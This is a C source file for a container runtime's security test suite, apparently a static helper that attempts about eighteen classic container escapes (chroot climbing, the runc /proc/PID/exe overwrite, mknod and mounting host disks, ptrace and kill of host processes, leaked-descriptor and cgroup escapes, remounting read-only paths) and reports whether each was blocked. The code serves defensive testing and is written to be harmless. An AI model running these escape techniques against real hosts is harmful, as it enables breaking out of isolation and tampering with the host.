// SPDX-License-Identifier: MIT
/*
 * attack: the escape battery's attacks (tests/security/test_escape.sh), static so it
 * runs in any rootfs. Each command tries one classic container escape, as root, and
 * prints key=value details and a last line "outcome=blocked" or "outcome=succeeded"
 * (the attack got past the defence). The suite runs each one inside a default container,
 * where it must be blocked, and as a control where it must succeed: on the host or with
 * --privileged. Every attack is harmless when it succeeds: it reads, opens without
 * writing, writes a value back unchanged, loads an invalid module image, or acts on
 * files and processes the suite made for it. It never writes to a device.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <net/if.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#define EXIT_USAGE 2

static const char *errname(int e)
{
	static const struct {
		int e;
		const char *name;
	} names[] = {
	    {EPERM, "EPERM"},     {ENOENT, "ENOENT"}, {ESRCH, "ESRCH"},     {EBADF, "EBADF"},
	    {EACCES, "EACCES"},   {EBUSY, "EBUSY"},   {ENODEV, "ENODEV"},   {ENXIO, "ENXIO"},
	    {EINVAL, "EINVAL"},   {EROFS, "EROFS"},   {ETXTBSY, "ETXTBSY"}, {ENOSYS, "ENOSYS"},
	    {ENOEXEC, "ENOEXEC"}, {EFAULT, "EFAULT"}, {ENOTDIR, "ENOTDIR"}, {EEXIST, "EEXIST"},
	};
	static char buf[16];

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (names[i].e == e)
			return names[i].name;
	snprintf(buf, sizeof(buf), "E%d", e);
	return buf;
}

/* "ok" or the errno name of the last failure. */
static const char *res(int r)
{
	return r < 0 ? errname(errno) : "ok";
}

static int outcome(bool succeeded)
{
	printf("outcome=%s\n", succeeded ? "succeeded" : "blocked");
	return 0;
}

static dev_t arg_dev(const char *s)
{
	unsigned maj, min;

	if (sscanf(s, "%u:%u", &maj, &min) != 2) {
		fprintf(stderr, "attack: bad device '%s' (MAJOR:MINOR)\n", s);
		exit(EXIT_USAGE);
	}
	return makedev(maj, min);
}

/* The classic: chroot into a subdirectory while the working directory stays above it,
 * climb with "..", and chroot there. Works in a plain chroot; pivot_root into a new
 * mount namespace leaves nothing above the root to climb to. */
static int cmd_chroot(void)
{
	char dir[] = "/tmp/.box-attack-XXXXXX";
	struct stat before, after;
	int tmp = open("/tmp", O_PATH | O_DIRECTORY | O_CLOEXEC);
	int r;

	if (tmp < 0 || stat("/", &before) < 0 || !mkdtemp(dir)) {
		perror("attack: chroot setup");
		return 1;
	}
	r = chroot(dir);
	printf("chroot=%s\n", res(r));
	for (int i = 0; r == 0 && i < 64; i++)
		(void)chdir("..");
	if (r == 0)
		printf("second_chroot=%s\n", res(chroot(".")));
	(void)unlinkat(tmp, strrchr(dir, '/') + 1, AT_REMOVEDIR);
	if (stat("/", &after) < 0)
		return 1;
	printf("root_before=%u:%lu\nroot_after=%u:%lu\n", (unsigned)before.st_dev,
	       (unsigned long)before.st_ino, (unsigned)after.st_dev, (unsigned long)after.st_ino);
	return outcome(before.st_dev != after.st_dev || before.st_ino != after.st_ino);
}

/* runc's CVE-2019-5736: hold /proc/PID/exe, then reopen it for writing (retrying while
 * the binary runs) and overwrite the host's binary. */
static int cmd_exe(const char *pid, const char *seconds)
{
	char path[64], self[64];
	struct timespec ts = {0, 20 * 1000000L};
	double left = atof(seconds);
	struct stat st;
	int fd, wfd = -1, seals;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0) {
		printf("open_path=%s\n", errname(errno));
		return outcome(false);
	}
	printf("exe=%u:%lu\n", (unsigned)st.st_dev, (unsigned long)st.st_ino);
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	seals = open(self, O_RDONLY | O_CLOEXEC);
	printf("seals=%d\n", seals < 0 ? -1 : fcntl(seals, F_GET_SEALS));
	for (; left > 0 && wfd < 0; left -= 0.02) {
		wfd = open(self, O_WRONLY | O_CLOEXEC);
		if (wfd < 0)
			nanosleep(&ts, NULL);
	}
	if (wfd < 0) {
		printf("open_write=%s\n", errname(errno));
		return outcome(false);
	}
	printf("open_write=ok\n");
	if (pwrite(wfd, "BOXATTACK", 9, 0) != 9) {
		printf("write=%s\n", errname(errno));
		return outcome(false);
	}
	printf("write=ok\n");
	return outcome(true);
}

static bool read_some(const char *path)
{
	char buf[512];
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	ssize_t n;

	if (fd < 0)
		return false;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	return n > 0;
}

/* Every block device node in /dev, read (never written). */
static int cmd_blockdevs(void)
{
	DIR *d = opendir("/dev");
	struct dirent *e;
	int found = 0, readable = 0;

	while (d && (e = readdir(d))) {
		char path[300];
		struct stat st;

		snprintf(path, sizeof(path), "/dev/%s", e->d_name);
		if (lstat(path, &st) < 0 || !S_ISBLK(st.st_mode))
			continue;
		found++;
		if (read_some(path)) {
			printf("read=%s\n", path);
			readable++;
		}
	}
	if (d)
		closedir(d);
	printf("found=%d\nreadable=%d\n", found, readable);
	return outcome(readable > 0);
}

#define NODE "/dev/.box-attack-disk"
#define MNT  "/dev/.box-attack-mnt"

/* A device through a node of our own making (CAP_MKNOD is a default): opening it is
 * the attack; a disk is then read (512 bytes, never written). */
static int cmd_mknod(const char *type, const char *dev)
{
	mode_t kind = type[0] == 'b' ? S_IFBLK : S_IFCHR;
	int r = mknod(NODE, kind | 0600, arg_dev(dev));
	int fd;

	printf("mknod=%s\n", res(r));
	if (r < 0)
		return outcome(false);
	fd = open(NODE, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	printf("open=%s\n", res(fd));
	if (fd >= 0 && kind == S_IFBLK) {
		char buf[512];

		printf("read=%s\n", res((int)read(fd, buf, sizeof(buf))));
	}
	if (fd >= 0)
		close(fd);
	(void)unlink(NODE);
	return outcome(fd >= 0);
}

/* Mount the host's disk (never written: read a directory listing, detach). */
static int cmd_mount(const char *dev, const char *fstype)
{
	int r = mknod(NODE, S_IFBLK | 0600, arg_dev(dev));
	int entries = 0;

	printf("mknod=%s\n", res(r));
	(void)mkdir(MNT, 0700);
	r = mount(NODE, MNT, fstype, MS_NOSUID | MS_NODEV | MS_NOEXEC | MS_NOATIME, NULL);
	printf("mount=%s\n", res(r));
	if (r == 0) {
		DIR *d = opendir(MNT);

		while (d && readdir(d))
			entries++;
		if (d)
			closedir(d);
		(void)umount2(MNT, MNT_DETACH);
		printf("entries=%d\n", entries);
	}
	(void)rmdir(MNT);
	(void)unlink(NODE);
	return outcome(r == 0);
}

/* Opens for writing and never writes (the control for /proc/sysrq-trigger). */
static int cmd_open_write(const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	printf("open_write=%s\n", res(fd));
	if (fd >= 0)
		close(fd);
	return outcome(fd >= 0);
}

/* Writes a sysctl's own value back: the write is real, the value does not change. */
static int cmd_rewrite(const char *path)
{
	char buf[256];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf));

	if (fd >= 0)
		close(fd);
	if (n <= 0) {
		printf("read=%s\n", errname(errno));
		return outcome(false);
	}
	fd = open(path, O_WRONLY | O_CLOEXEC);
	printf("open_write=%s\n", res(fd));
	if (fd < 0)
		return outcome(false);
	n = write(fd, buf, (size_t)n);
	printf("write=%s\n", res((int)n));
	close(fd);
	return outcome(n > 0);
}

/* An image of zeros is no module: a kernel that gets this far refuses it (ENOEXEC,
 * or ENOSYS without module support); only EPERM means the call was stopped first. */
static int cmd_module(void)
{
	static char image[64];
	int fd = (int)syscall(SYS_memfd_create, "box-attack", 1U /* MFD_CLOEXEC */);
	long a, b;
	int ea, eb;

	a = syscall(SYS_init_module, image, sizeof(image), "");
	ea = errno;
	if (fd >= 0 && write(fd, image, sizeof(image)) != (ssize_t)sizeof(image))
		return 1;
	b = syscall(SYS_finit_module, fd, "", 0);
	eb = errno;
	printf("init_module=%s\nfinit_module=%s\n", a < 0 ? errname(ea) : "ok",
	       b < 0 ? errname(eb) : "ok");
	return outcome(!(a < 0 && ea == EPERM) || !(b < 0 && eb == EPERM));
}

/* A host process (a sleep the suite started): trace it, then kill it. */
static int cmd_kill(const char *arg)
{
	pid_t pid = atoi(arg);
	long t = ptrace(PTRACE_SEIZE, pid, 0, 0);
	int k;

	printf("ptrace=%s\n", res((int)t));
	if (t == 0)
		(void)ptrace(PTRACE_DETACH, pid, 0, 0);
	k = kill(pid, SIGKILL);
	printf("kill=%s\n", res(k));
	return outcome(t == 0 || k == 0);
}

static int cmd_see_pid(const char *pid)
{
	char path[64];
	bool seen;

	snprintf(path, sizeof(path), "/proc/%s/stat", pid);
	seen = access(path, F_OK) == 0;
	printf("pid_visible=%d\n", seen);
	return outcome(seen);
}

static int cmd_see_mount(const char *point)
{
	FILE *f = fopen("/proc/self/mountinfo", "re");
	char line[4096], mnt[4096];
	bool seen = false;

	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "%*s %*s %*s %*s %4095s", mnt) == 1 && !strcmp(mnt, point))
			seen = true;
	if (f)
		fclose(f);
	printf("mount_visible=%d\n", seen);
	return outcome(seen);
}

static int cmd_see_net(void)
{
	struct if_nameindex *ifs = if_nameindex();
	int others = 0;

	for (struct if_nameindex *i = ifs; i && i->if_index; i++) {
		printf("iface=%s\n", i->if_name);
		others += strcmp(i->if_name, "lo") != 0;
	}
	if (ifs)
		if_freenameindex(ifs);
	printf("non_lo=%d\n", others);
	return outcome(others > 0);
}

/* A directory descriptor the host leaked: the shocker-style way out of a root. */
static int cmd_fd(const char *num, const char *name)
{
	int fd = atoi(num), f = openat(fd, name, O_RDONLY | O_CLOEXEC);
	char buf[128] = "";
	ssize_t n = f < 0 ? -1 : read(f, buf, sizeof(buf) - 1);

	printf("openat=%s\n", res(f));
	if (n > 0) {
		buf[n] = '\0';
		buf[strcspn(buf, "\n")] = '\0';
		printf("content=%s\n", buf);
	}
	return outcome(n > 0);
}

/* Keyrings are not namespaced. The key goes to this process's own keyring, which dies
 * with it. */
static int cmd_keyring(void)
{
	long k = syscall(SYS_add_key, "user", "box-attack", "x", 1, -2 /* process keyring */);

	printf("add_key=%s\n", res((int)k));
	return outcome(k >= 0);
}

/* Leave the container's cgroup: find or mount a cgroup hierarchy and move into its
 * parent. With FILE (the host control): write our pid into that cgroup.procs. */
static int cmd_cgroup(const char *file)
{
	static const char *const types[][2] = {
	    {"cgroup2", NULL}, {"cgroup", "pids"}, {"cgroup", "memory"}, {"cgroup", "devices"}};
	char path[128];
	int fd, r = -1;

	if (!file) {
		(void)mkdir(MNT, 0700);
		for (size_t i = 0; r < 0 && i < sizeof(types) / sizeof(types[0]); i++) {
			r = mount("cgroup", MNT, types[i][0], MS_NOSUID | MS_NODEV | MS_NOEXEC,
			          types[i][1]);
			printf("mount_%s=%s\n", types[i][1] ? types[i][1] : types[i][0], res(r));
		}
		snprintf(path, sizeof(path), "%s/../cgroup.procs", MNT);
		file = r == 0 ? path : NULL;
	}
	fd = file ? open(file, O_WRONLY | O_CLOEXEC) : -1;
	if (fd >= 0) {
		char pid[16];
		int n = snprintf(pid, sizeof(pid), "%d", getpid());

		r = write(fd, pid, (size_t)n) == n ? 0 : -1;
		close(fd);
	} else {
		r = -1;
	}
	printf("moved=%s\n", res(r));
	if (!strncmp(file ? file : "", MNT, strlen(MNT)))
		(void)umount2(MNT, MNT_DETACH);
	(void)rmdir(MNT);
	return outcome(r == 0);
}

/* Make a read-only mount writable again: this mount namespace's view of it, then with
 * "sb" its superblock (only for a filesystem the container has to itself, like its /sys). */
static int cmd_remount(const char *point, bool sb)
{
	unsigned long flags = MS_REMOUNT | MS_NOSUID | MS_NODEV | MS_NOEXEC;
	int r = mount(NULL, point, NULL, flags | MS_BIND, NULL);
	struct statvfs sv;
	bool ro = statvfs(point, &sv) == 0 && (sv.f_flag & ST_RDONLY);

	printf("remount=%s\n", res(r));
	if (r == 0 && ro && sb) {
		r = mount(NULL, point, NULL, flags, NULL);
		printf("remount_sb=%s\n", res(r));
		ro = statvfs(point, &sv) == 0 && (sv.f_flag & ST_RDONLY);
	}
	printf("readonly=%d\n", ro);
	return outcome(!ro);
}

/* A new user namespace: every capability inside it, and the kernel code behind them
 * (mounting filesystems, netfilter...) within reach of root in the container. */
static int cmd_userns(void)
{
	int r = unshare(CLONE_NEWUSER);

	printf("unshare=%s\n", res(r));
	return outcome(r == 0);
}

/* Docker's masked paths, read. */
static int cmd_masked(void)
{
	static const char *const paths[] = {
	    "/proc/acpi",        "/proc/asound",        "/proc/kcore",
	    "/proc/keys",        "/proc/latency_stats", "/proc/timer_list",
	    "/proc/timer_stats", "/proc/sched_debug",   "/proc/scsi",
	    "/proc/interrupts",  "/sys/firmware",       "/sys/devices/virtual/powercap",
	};
	int leaked = 0;

	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		struct stat st;
		int got = 0;

		if (stat(paths[i], &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode)) {
			DIR *d = opendir(paths[i]);
			struct dirent *e;

			while (d && (e = readdir(d)))
				got += e->d_name[0] != '.';
			if (d)
				closedir(d);
		} else {
			got = read_some(paths[i]);
		}
		printf("path=%s leaked=%d\n", paths[i], got > 0);
		leaked += got > 0;
	}
	printf("leaked=%d\n", leaked);
	return outcome(leaked > 0);
}

static const char usage[] =
    "usage: attack COMMAND [ARG...]\n"
    "  chroot | exe PID SECONDS | blockdevs | mknod b|c MAJ:MIN | mount MAJ:MIN FSTYPE\n"
    "  open-write PATH | rewrite PATH | module | kill PID | see-pid PID | see-mount PATH\n"
    "  see-net | fd N NAME | keyring | cgroup [FILE] | remount PATH [sb] | userns\n"
    "  masked\n";

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";
	int n = argc - 2;
	int r = -1;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (n == 0 && !strcmp(cmd, "chroot"))
		r = cmd_chroot();
	else if (n == 2 && !strcmp(cmd, "exe"))
		r = cmd_exe(argv[2], argv[3]);
	else if (n == 0 && !strcmp(cmd, "blockdevs"))
		r = cmd_blockdevs();
	else if (n == 2 && !strcmp(cmd, "mknod"))
		r = cmd_mknod(argv[2], argv[3]);
	else if (n == 2 && !strcmp(cmd, "mount"))
		r = cmd_mount(argv[2], argv[3]);
	else if (n == 1 && !strcmp(cmd, "open-write"))
		r = cmd_open_write(argv[2]);
	else if (n == 1 && !strcmp(cmd, "rewrite"))
		r = cmd_rewrite(argv[2]);
	else if (n == 0 && !strcmp(cmd, "module"))
		r = cmd_module();
	else if (n == 1 && !strcmp(cmd, "kill"))
		r = cmd_kill(argv[2]);
	else if (n == 1 && !strcmp(cmd, "see-pid"))
		r = cmd_see_pid(argv[2]);
	else if (n == 1 && !strcmp(cmd, "see-mount"))
		r = cmd_see_mount(argv[2]);
	else if (n == 0 && !strcmp(cmd, "see-net"))
		r = cmd_see_net();
	else if (n == 2 && !strcmp(cmd, "fd"))
		r = cmd_fd(argv[2], argv[3]);
	else if (n == 0 && !strcmp(cmd, "keyring"))
		r = cmd_keyring();
	else if ((n == 0 || n == 1) && !strcmp(cmd, "cgroup"))
		r = cmd_cgroup(n ? argv[2] : NULL);
	else if ((n == 1 || n == 2) && !strcmp(cmd, "remount"))
		r = cmd_remount(argv[2], n == 2 && !strcmp(argv[3], "sb"));
	else if (n == 0 && !strcmp(cmd, "userns"))
		r = cmd_userns();
	else if (n == 0 && !strcmp(cmd, "masked"))
		r = cmd_masked();
	if (r < 0) {
		fputs(usage, stderr);
		return EXIT_USAGE;
	}
	return r;
}
